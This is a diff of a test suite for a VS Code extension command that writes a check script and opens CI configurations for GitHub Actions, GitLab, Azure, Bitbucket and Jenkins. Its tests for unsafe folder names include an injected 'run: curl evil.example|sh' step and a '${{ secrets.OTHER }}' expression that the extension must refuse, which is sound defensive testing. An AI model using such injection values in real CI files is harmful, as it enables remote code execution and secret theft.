@@ -1,9 +1,10 @@
 import { strict as assert } from 'node:assert';
 import { cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { isDeepStrictEqual } from 'node:util';
 import * as vscode from 'vscode';
 import { addCheck } from '../../../src/commands/addCheck/addCheck.js';
+import { ciSystems } from '../../../src/commands/addCheck/ciSystems.js';
 import { UserError } from '../../../src/host/actions.js';
 import { ManualClock } from '../../support/manualClock.js';
 import { projectRoot } from '../../support/paths.js';
@@ -14,24 +15,52 @@ import { createGraph, type Graph } from '../../support/window/graph.js';
 import { Global, settingIn, Workspace, writeSetting } from '../../support/window/settings.js';
 import { StuckFiles } from '../../support/window/stuckFiles.js';
 import {
-  notificationsOf,
   recordWindow,
   rejectionOf,
   replace,
+  type Shown,
+  settle,
 } from '../../support/window/windowRecorder.js';
 
 const section = 'automationPlatform.deployments';
 const fileName = 'automation-platform-check.mjs';
+const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
+const ownProgram = 'the check';
+
+/** In the order of the list, each with its configuration. */
+const configurations = {
+  'GitHub Actions': '.github/workflows',
+  GitLab: '.gitlab-ci.yml',
+  'Azure Pipelines': 'azure-pipelines.yml',
+  Bitbucket: 'bitbucket-pipelines.yml',
+  Jenkins: 'Jenkinsfile',
+};
+const systems = Object.keys(configurations);
+/** The list when nothing of this is in the workspace. */
+const fixedOrder = systems.map((name) => ({ name, found: '' }));
+
+interface Choices {
+  readonly ci?: string | undefined;
+  readonly folder?: vscode.Uri;
+  readonly press?: readonly string[];
+}
 
 describe('Add CI Check', () => {
   let graph: Graph;
   let extension: Awaited<ReturnType<typeof temporaryFolder>>;
   let target: string;
   const services = () => ({ ...graph.services, extensionUri: vscode.Uri.file(extension.path) });
-  /** Runs Add CI Check, chooses this folder, and presses these buttons. Returns the notifications. */
-  const add = (folder = vscode.Uri.file(target), ...buttons: readonly string[]) => {
+  /** Runs Add CI Check, makes these choices, and presses these buttons. Returns the notifications. */
+  const add = async ({
+    ci = 'GitHub Actions',
+    folder = vscode.Uri.file(target),
+    press = [],
+  }: Choices = {}) => {
+    const { messages } = recordWindow(() => ci, ...press);
     replace(vscode.window, { showOpenDialog: async () => [folder] });
-    return notificationsOf(() => addCheck(services()), ...buttons);
+    await addCheck(services());
+    await settle();
+    return messages;
   };
 
   const savedFile = () => readFile(join(target, fileName), 'utf8');
@@ -39,7 +68,7 @@ describe('Add CI Check', () => {
   before(async () => {
     extension = await temporaryFolder();
     await mkdir(join(extension.path, 'dist'));
-    await writeFile(join(extension.path, 'dist', 'check.mjs'), 'the check');
+    await writeFile(join(extension.path, 'dist', 'check.mjs'), ownProgram);
     await cp(join(projectRoot, 'media', 'ci'), join(extension.path, 'media', 'ci'), {
       recursive: true,
     });
@@ -50,118 +79,284 @@ describe('Add CI Check', () => {
     target = join(extension.path, 'target');
     await rm(target, { recursive: true, force: true });
     await mkdir(target);
+    await writeSetting(section, ['dep_1'], Workspace);
+  });
+
+  /** Makes files or folders of a workspace folder until the test ends. */
+  const putIn = async (folder: string, ...paths: readonly string[]) => {
+    for (const path of paths) {
+      const [top = ''] = path.split('/');
+      atEndOfTest(() => rm(join(folder, top), { recursive: true, force: true }));
+      await mkdir(join(folder, dirname(path)), { recursive: true });
+      if (path.endsWith('/workflows')) await mkdir(join(folder, path));
+      else await writeFile(join(folder, path), '');
+    }
+  };
+
+  describe('lists the CIs', () => {
+    /** Runs Add CI Check, and dismisses the list that it shows. */
+    const listOf = async (setTimer = new ManualClock().setTimer) => {
+      const shown = recordWindow();
+      await addCheck(services(), setTimer);
+      return { ...shown, list: listIn(shown) };
+    };
+    const listIn = ({ picks }: Pick<Shown, 'picks'>) =>
+      picks.map(({ label, description }) => ({ name: label, found: description }));
+
+    it('in a fixed order without their files', async () => {
+      const { list } = await listOf();
+
+      assert.deepEqual(list, fixedOrder);
+    });
+
+    it('below a question', async () => {
+      const { titles, placeholders } = await listOf();
+
+      assert.deepEqual(titles, ['Add CI Check']);
+      assert.deepEqual(placeholders, ['Which CI runs the check?']);
+    });
+
+    for (const [name, path] of [
+      ...Object.entries(configurations),
+      ['Azure Pipelines', 'azure-pipelines.yaml'],
+      ['Azure Pipelines', '.azure-pipelines.yml'],
+    ] as const) {
+      it(`with ${name} first when the workspace has ${path}`, async () => {
+        await putIn(root, path);
+
+        const { list } = await listOf();
+
+        const others = fixedOrder.filter((system) => system.name !== name);
+        assert.deepEqual(list, [{ name, found: path }, ...others]);
+      });
+    }
+
+    it('with the used ones first, in the fixed order', async () => {
+      await putIn(root, 'Jenkinsfile', '.gitlab-ci.yml');
+
+      const { list } = await listOf();
+
+      assert.deepEqual(
+        list.map(({ name }) => name),
+        ['GitLab', 'Jenkins', 'GitHub Actions', 'Azure Pipelines', 'Bitbucket'],
+      );
+    });
+
+    /** Opens folders, the first of which is in a file system that does not answer. Begins to add the check. */
+    const addBesideStuck = async (...others: readonly vscode.Uri[]) => {
+      const files = new StuckFiles('');
+      files.hangs = 'stat';
+      const uris = [vscode.Uri.joinPath(files.uri, '..'), ...others];
+      replace(vscode.workspace, {
+        workspaceFolders: uris.map((uri, index) => ({ uri, index, name: `folder ${index}` })),
+      });
+      const clock = new ManualClock();
+      const adding = addCheck(services(), clock.setTimer);
+      atEndOfTest(() => adding);
+      atEndOfTest(() => files.answerAll());
+      await until('a call of the file system', () => files.isAsked);
+      return { adding, clock };
+    };
+
+    it('when the file system has not answered for two seconds', async () => {
+      const shown = recordWindow();
+      const { clock } = await addBesideStuck();
+
+      clock.pass(2000);
+      await settle();
+
+      assert.deepEqual(listIn(shown), fixedOrder);
+    });
+
+    it('with those first whose files another folder has, when one does not answer', async () => {
+      await putIn(root, 'Jenkinsfile');
+      const shown = recordWindow();
+      const { clock } = await addBesideStuck(vscode.Uri.file(root));
+      const stuckCalls = ciSystems.flatMap((system) => system.configurations).length;
+      await until('the other folder', () => clock.waiting === stuckCalls);
+
+      clock.pass(2000);
+      await settle();
+
+      assert.equal(listIn(shown)[0]?.name, 'Jenkins');
+    });
+
+    it('and ends when the list is dismissed before the file system answers', async () => {
+      const { adding } = await addBesideStuck();
+
+      await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
+
+      await adding;
+    });
+
+    it('and asks nothing more when the list is dismissed', async () => {
+      let isAsked = false;
+      const showOpenDialog = async () => {
+        isAsked = true;
+      };
+      replace(vscode.window, { showOpenDialog });
+
+      const { messages } = await listOf();
+
+      assert.equal(isAsked, false);
+      assert.deepEqual(messages, []);
+    });
+
+    it('and opens no document when the list is dismissed', async () => {
+      const documentsBefore = vscode.workspace.textDocuments.length;
+
+      await listOf();
+
+      assert.equal(vscode.workspace.textDocuments.length, documentsBefore);
+    });
   });
 
   it('saves the check to the chosen folder', async () => {
-    await writeSetting(section, ['dep_1'], Workspace);
-
-    const messages = await add();
-
-    assert.equal(await savedFile(), 'the check');
-    assert.deepEqual(messages, [
-      [
-        'information',
-        `Saved ${fileName}. The workflow that runs it is open in an editor. Save the workflow to use it.`,
-      ],
-    ]);
-  });
-
-  /** Adds the check. Returns the workflow in the active editor, and its text without comments. */
-  const openedWorkflow = async () => {
-    await writeSetting(section, ['dep_1'], Workspace);
     await add();
-    const { document } = vscode.window.activeTextEditor!;
-    const text = document.getText();
-    return { document, text, code: text.replaceAll(/#.*/g, '') };
-  };
 
-  describe('opens a workflow that', () => {
-    it('is an untitled YAML document', async () => {
-      const { document } = await openedWorkflow();
+    assert.equal(await savedFile(), ownProgram);
+  });
 
-      assert.equal(document.languageId, 'yaml');
-      assert.equal(document.isUntitled, true);
-    });
+  describe('says', () => {
+    const savedAs = (ci: string, path: string) =>
+      `Saved ${fileName}. The configuration for ${ci} is open in an editor: save it as ${path}. A line for AGENTS.md is open beside it.`;
+    const addedTo = (ci: string, path: string) =>
+      `Saved ${fileName}. The configuration for ${ci} is open in an editor: add it to ${path}. A line for AGENTS.md is open beside it.`;
+    const workflow = '.github/workflows/automation-platform.yml';
+    const newFile = { ...configurations, 'GitHub Actions': workflow };
 
-    it('runs the check', async () => {
-      const { text } = await openedWorkflow();
+    for (const [ci, path] of Object.entries(newFile)) {
+      it(`to save the configuration for ${ci} as ${path}`, async () => {
+        const messages = await add({ ci });
 
-      assert.match(text, new RegExp(`\\n +node \\./${fileName} --format github\\n`));
-    });
+        assert.deepEqual(messages, [['information', savedAs(ci, path)]]);
+      });
+    }
 
-    it('runs on a schedule, on demand, and on pushes to main', async () => {
-      const { code } = await openedWorkflow();
+    /** Saves the check in the workspace, which has this file. */
+    const messagesBeside = async (ci: string, path: string) => {
+      await putIn(root, path, `tools/${fileName}`);
+      const folder = vscode.Uri.file(join(root, 'tools'));
+      return add({ ci, folder, press: ['Overwrite'] });
+    };
 
-      assert.match(
-        code,
-        /\n {2}schedule:\n.*\n {2}workflow_dispatch:\n {2}push:\n\s+branches: \[main\]\n/,
-      );
-    });
+    for (const [ci, path] of [
+      ['GitLab', '.gitlab-ci.yml'],
+      ['Bitbucket', 'bitbucket-pipelines.yml'],
+    ] as const) {
+      it(`to add the configuration for ${ci} to ${path} when the workspace has it`, async () => {
+        const messages = await messagesBeside(ci, path);
 
-    it('never runs on pull requests', async () => {
-      const { code } = await openedWorkflow();
+        assert.deepEqual(messages.at(-1), ['information', addedTo(ci, path)]);
+      });
+    }
 
-      assert.doesNotMatch(code, /pull_request/);
-    });
+    for (const [ci, existing, path] of [
+      ['GitHub Actions', '.github/workflows', workflow],
+      ['Azure Pipelines', 'azure-pipelines.yaml', 'azure-pipelines-automation-platform.yml'],
+      ['Jenkins', 'Jenkinsfile', 'Jenkinsfile.automation-platform'],
+    ] as const) {
+      it(`to save the configuration for ${ci} as ${path} beside ${existing}`, async () => {
+        const messages = await messagesBeside(ci, existing);
 
-    it('gives the token to one step only', async () => {
-      const { code } = await openedWorkflow();
-      const usedSecrets = code.match(/secrets\./g);
+        assert.deepEqual(messages.at(-1), ['information', savedAs(ci, path)]);
+      });
+    }
 
-      assert.deepEqual(usedSecrets, ['secrets.']);
-    });
+    it('to save a new file when the check is saved outside of the workspace', async () => {
+      await putIn(root, '.gitlab-ci.yml');
 
-    it('may only read the repository', async () => {
-      const { code } = await openedWorkflow();
+      const messages = await add({ ci: 'GitLab' });
 
-      assert.match(code, /\npermissions:\n {2}contents: read\n/);
-    });
-
-    it('does not leave Git credentials in the checkout', async () => {
-      const { code } = await openedWorkflow();
-
-      assert.match(code, /persist-credentials: false/);
-    });
-
-    it('pins each action of GitHub to a commit', async () => {
-      const { code } = await openedWorkflow();
-
-      for (const [, action] of code.matchAll(/uses: (.*)/g))
-        assert.match(action!, /^actions\/\w+@[0-9a-f]{40} $/);
-    });
-
-    it('warns in a comment that labels and errors appear in the log', async () => {
-      const { text } = await openedWorkflow();
-
-      assert.match(
-        text,
-        /# Labels of deployments and accounts, and errors that the platform reports, appear in the log/,
-      );
-    });
-
-    it('has lines for AGENTS.md', async () => {
-      const { text } = await openedWorkflow();
-
-      assert.match(text, new RegExp(`# For AGENTS.md:\\n# - .node \\./${fileName} --format json`));
+      assert.deepEqual(messages, [['information', savedAs('GitLab', '.gitlab-ci.yml')]]);
     });
   });
+
+  for (const ci of systems) {
+    describe(`opens a configuration for ${ci} that`, () => {
+      it(`is an untitled document in ${ci === 'Jenkins' ? 'Groovy' : 'YAML'}`, async () => {
+        await add({ ci });
+
+        const { document } = vscode.window.activeTextEditor!;
+        assert.equal(document.languageId, ci === 'Jenkins' ? 'groovy' : 'yaml');
+        assert.equal(document.isUntitled, true);
+      });
+
+      it('runs the saved file', async () => {
+        await add({ ci });
+
+        const text = vscode.window.activeTextEditor!.document.getText();
+        assert.match(text, new RegExp(`\\bnode \\./${fileName}\\b`));
+        assert.doesNotMatch(text, /\{file\}/);
+      });
+    });
+  }
+
+  it('opens a configuration as plain text when VS Code does not know its language', async () => {
+    replace(vscode.languages, { getLanguages: async () => ['plaintext', 'yaml'] });
+
+    await add({ ci: 'Jenkins' });
+
+    assert.equal(vscode.window.activeTextEditor!.document.languageId, 'plaintext');
+  });
+
+  describe('opens a line for AGENTS.md that', () => {
+    /** Adds the check. Returns the document that has the line alone. */
+    const openedLine = async (choices?: Choices) => {
+      await add(choices);
+      const others = vscode.workspace.textDocuments.filter(
+        (document) => document.isUntitled && document !== vscode.window.activeTextEditor?.document,
+      );
+      assert.equal(others.length, 1, 'the number of untitled documents behind the active one');
+      return others[0]!;
+    };
+
+    it('is a Markdown document', async () => {
+      const { languageId } = await openedLine();
+
+      assert.equal(languageId, 'markdown');
+    });
+
+    it('runs the saved file', async () => {
+      const text = (await openedLine()).getText();
+
+      assert.match(text, new RegExp(`^- .node \\./${fileName} --format json. `));
+    });
+
+    it('stays open behind the configuration', async () => {
+      await add();
+
+      const tabs = vscode.window.tabGroups.all.flatMap((group) => group.tabs);
+      const states = tabs.map(({ isActive, isPreview }) => ({ isActive, isPreview }));
+      assert.deepEqual(states, [
+        { isActive: false, isPreview: false },
+        { isActive: true, isPreview: false },
+      ]);
+    });
+  });
+
+  /** Has a file system whose call does not return, and begins to add the check there. */
+  const addToStuck = async (hangs: NonNullable<StuckFiles['hangs']>) => {
+    const files = new StuckFiles('');
+    files.hangs = hangs;
+    const shown = recordWindow(() => 'GitHub Actions');
+    const clock = new ManualClock();
+    replace(vscode.window, {
+      showOpenDialog: async () => [vscode.Uri.joinPath(files.uri, '..')],
+    });
+    const adding = addCheck(services(), clock.setTimer);
+    atEndOfTest(() => adding);
+    atEndOfTest(() => files.answerAll());
+    await until('a call of the file system', () => files.isAsked);
+    return { ...shown, clock };
+  };
 
   for (const [hangs, title] of [
     ['stat', `Reading the folder for ${fileName}`],
     ['writeFile', `Saving ${fileName}`],
   ] as const) {
     it(`shows progress after a second when ${hangs} does not return`, async () => {
-      const files = new StuckFiles('');
-      files.hangs = hangs;
-      const { progress } = recordWindow();
-      const clock = new ManualClock();
-      replace(vscode.window, {
-        showOpenDialog: async () => [vscode.Uri.joinPath(files.uri, '..')],
-      });
-      const adding = addCheck(services(), clock.setTimer);
-      atEndOfTest(() => adding);
-      atEndOfTest(() => files.answerAll());
-      await until('a call of the file system', () => files.isAsked);
+      const { clock, progress } = await addToStuck(hangs);
 
       clock.pass(999);
       assert.deepEqual(progress, [], 'shown too early');
@@ -170,29 +365,27 @@ describe('Add CI Check', () => {
     });
   }
 
-  it('asks before it overwrites a file', async () => {
+  it('does not overwrite a file when the user does not confirm it', async () => {
     await writeFile(join(target, fileName), 'mine');
 
-    const messages = await add();
+    await add();
 
-    const exists = `A file with this name already exists in ${target}.`;
-    assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, exists, 'Overwrite']]);
     assert.equal(await savedFile(), 'mine');
   });
 
   it('overwrites a file when the user confirms it', async () => {
     await writeFile(join(target, fileName), 'mine');
 
-    await add(undefined, 'Overwrite');
+    await add({ press: ['Overwrite'] });
 
-    assert.equal(await savedFile(), 'the check');
+    assert.equal(await savedFile(), ownProgram);
   });
 
   describe('writes nothing when the file', () => {
     /** Has `make` put something in the place of the file, adds the check, and returns the sentence of the error. */
     const refusalOf = async (make: (path: string) => Promise<unknown>) => {
       await make(join(target, fileName));
-      const outcome = await add(undefined, 'Overwrite').catch((error: unknown) => error);
+      const outcome = await add({ press: ['Overwrite'] }).catch((error: unknown) => error);
       assert.ok(outcome instanceof UserError, `not refused: ${String(outcome)}`);
       return outcome.message;
     };
@@ -229,7 +422,7 @@ describe('Add CI Check', () => {
         const namesBesideTarget = await readdir(extension.path);
         const linkedFile = await readFile(join(extension.path, 'mine'), 'utf8').catch(() => 'mine');
         assert.equal(namesBesideTarget.includes('gone'), false);
-        assert.notEqual(linkedFile, 'the check');
+        assert.notEqual(linkedFile, ownProgram);
       });
     }
   });
@@ -241,55 +434,57 @@ describe('Add CI Check', () => {
     await symlink(target, linked);
     atEndOfTest(() => rm(linked));
 
-    const messages = await add(vscode.Uri.file(linked));
+    const messages = await add({ folder: vscode.Uri.file(linked) });
 
-    const exists = `A file with this name already exists in ${target}.`;
-    assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, exists, 'Overwrite']]);
+    const detail = `A file with this name already exists in ${target}.`;
+    assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, detail, 'Overwrite']]);
   });
 
   it('overwrites a file whose name has another case when the disk ignores case', async () => {
     const disk = diskWithoutCase('Automation-Platform-Check.mjs');
     const folder = vscode.Uri.from({ scheme: disk.scheme, path: '/repo' });
-    const exists = 'A file with this name already exists in /repo.';
-    const question = ['warning', 'Overwrite Automation-Platform-Check.mjs?', exists, 'Overwrite'];
+    const detail = 'A file with this name already exists in /repo.';
+    const question = ['warning', 'Overwrite Automation-Platform-Check.mjs?', detail, 'Overwrite'];
 
-    assert.deepEqual(await add(folder), [question]);
+    assert.deepEqual(await add({ folder }), [question]);
     assert.deepEqual(disk.written, [], 'written without a yes');
-    await add(folder, 'Overwrite');
+    await add({ folder, press: ['Overwrite'] });
     assert.deepEqual(disk.written, ['/repo/Automation-Platform-Check.mjs']);
   });
 
   describe('to a folder of the workspace', () => {
-    const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
-    const addIn = async (name: string) => {
+    const addIn = async (name: string, ci?: string) => {
       await mkdir(join(root, name), { recursive: true });
       atEndOfTest(() => rm(join(root, name), { recursive: true }));
-      return add(vscode.Uri.file(join(root, name)));
+      return add({ ci, folder: vscode.Uri.file(join(root, name)) });
     };
 
-    it('quotes the path in the workflow when the path has a space', async () => {
-      await addIn('my tools');
+    for (const ci of systems) {
+      it(`quotes the path for ${ci} when the path has a space`, async () => {
+        await addIn('my tools', ci);
 
-      const workflow = vscode.window.activeTextEditor!.document.getText();
-      const quotedPath = 'node "./my tools/automation-platform-check.mjs"';
-      const commands = workflow.match(/node .*automation-platform-check\.mjs"?/g);
-      assert.deepEqual(commands, Array(3).fill(quotedPath));
-      assert.equal(workflow.match(/automation-platform-check/g)?.length, 3);
-      assert.doesNotMatch(workflow, /\{file\}/);
-    });
+        const text = vscode.window.activeTextEditor!.document.getText();
+        const commands = text.match(/node .*automation-platform-check\.mjs"?/g);
+        const quoted = commands?.filter((command) =>
+          command.endsWith('node "./my tools/automation-platform-check.mjs"'),
+        );
+        assert.notEqual(quoted?.length, 0);
+        assert.deepEqual(commands, quoted);
+      });
+    }
 
     for (const [what, name, refusal] of [
       [
         'a line break',
         'a\n      - run: curl evil.example|sh\n  #',
-        /contains “\n”, which is not safe in a workflow/,
+        /contains “\n”, which is not safe in a CI configuration/,
       ],
       [
         'an expression of GitHub',
         '${{ secrets.OTHER }}',
-        /contains “\$”, which is not safe in a workflow/,
+        /contains “\$”, which is not safe in a CI configuration/,
       ],
-      ['a quote', "it's", /contains “'”, which is not safe in a workflow/],
+      ['a quote', "it's", /contains “'”, which is not safe in a CI configuration/],
     ] as const) {
       it(`writes nothing when its name contains ${what}`, async function () {
         if (process.platform === 'win32') return this.skip();
@@ -306,7 +501,6 @@ describe('Add CI Check', () => {
   describe('with deployments in user settings only', () => {
     const userList = ['dep_1', { id: 'dep_2', label: 'Second' }, 'dep_3'];
     beforeEach(async () => {
-      await writeSetting(section, ['dep_1'], Workspace);
       await writeSetting(section, userList, Global);
     });
 
@@ -320,7 +514,7 @@ describe('Add CI Check', () => {
     });
 
     it('copies the whole list to the workspace', async () => {
-      await add(undefined, 'Copy to .vscode/settings.json');
+      await add({ press: ['Copy to .vscode/settings.json'] });
 
       await until('the copy', () => isDeepStrictEqual(settingIn(section), userList));
       assert.deepEqual(settingIn(section, Global), userList);
